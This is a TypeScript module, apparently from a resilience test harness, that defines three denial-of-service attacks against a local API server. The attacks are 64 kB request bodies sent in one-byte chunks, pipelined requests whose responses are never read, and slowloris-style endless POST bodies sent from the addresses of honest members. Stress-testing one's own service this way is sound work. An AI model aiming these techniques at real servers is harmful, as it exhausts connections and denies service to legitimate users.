import net from "node:net";
import { type Attack, attackersAddress, type Target } from "./attack.ts";
import { honestAddress } from "./honest_address.ts";

/** Sends bytes on a connection of its own, and gives the status of the first answer. */
export function exchange({ port }: Target, localAddress: string, bytes: Uint8Array): Promise<string> {
  const { promise, resolve } = Promise.withResolvers<string>();
  const socket = net.connect({ host: "127.0.0.1", port, localAddress }, () => socket.write(bytes));
  socket.once("data", (answer) => {
    resolve(answer.toString("latin1").slice(9, 12));
    socket.destroy();
  });
  socket.once("close", () => resolve("closed"));
  socket.on("error", () => resolve("refused"));
  return promise;
}

const encode = (text: string) => new TextEncoder().encode(text);

const chunkedBody = "Host: 127.0.0.1\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n" +
  "1\r\n \r\n".repeat(64_000) + "0\r\n\r\n";

/** Bodies of 64 kB in chunks of one byte, as calls and as vendors' callbacks. */
export const tinyChunks: Attack = {
  name: "bodies in chunks of one byte",
  perSecond: 10,
  prepare(target) {
    const kinds = ["user/login", "callback/NORTH"].map((path) =>
      encode(`POST /api/v1/${path} HTTP/1.1\r\n${chunkedBody}`)
    );
    let round = 0;
    return () => exchange(target, attackersAddress, kinds[round++ % kinds.length]!);
  },
};

/** Holds connections that were opened, up to so many, and opens another wherever one was closed. */
function holding(max: number, open: (round: number) => net.Socket): () => Promise<string> {
  const held = new Set<net.Socket>();
  let nth = 0;
  return () => {
    if (held.size >= max) return Promise.resolve("held");
    const { promise, resolve } = Promise.withResolvers<string>();
    const socket = open(nth++);
    held.add(socket);
    socket.on("connect", () => resolve("opened"));
    socket.on("error", () => resolve("refused"));
    socket.on("close", () => held.delete(socket));
    return promise;
  };
}

/** Asks for the largest answer, fifteen times ahead on each connection, and reads nothing. */
export const unreadAnswers: Attack = {
  name: "answers asked for ahead and not read",
  perSecond: 60,
  async prepare({ port }) {
    const docs = await (await fetch(`http://127.0.0.1:${port}/api/docs`)).text();
    const bundle = /\/api\/docs\/[\d.]+\/swagger-ui-bundle\.js/.exec(docs)?.[0];
    if (!bundle) throw new Error("the API docs have no bundle");
    const ahead = `GET ${bundle} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`.repeat(15);
    return holding(120, () => {
      const socket = net.connect({ host: "127.0.0.1", port, localAddress: attackersAddress });
      socket.pause();
      socket.write(ahead);
      return socket;
    });
  },
};

/** Callbacks whose bodies never end, 128 from the address of each honest member: strangers behind the same router. */
export const drippingNeighbours: Attack = {
  name: "callbacks that drip from honest members' own addresses",
  perSecond: 800,
  prepare({ port }) {
    const begin = "POST /api/v1/callback/NORTH HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 60000\r\n\r\n ";
    return holding(128 * 25, (round) => {
      const socket = net.connect({ host: "127.0.0.1", port, localAddress: honestAddress(round % 25) });
      socket.write(begin);
      return socket;
    });
  },
};
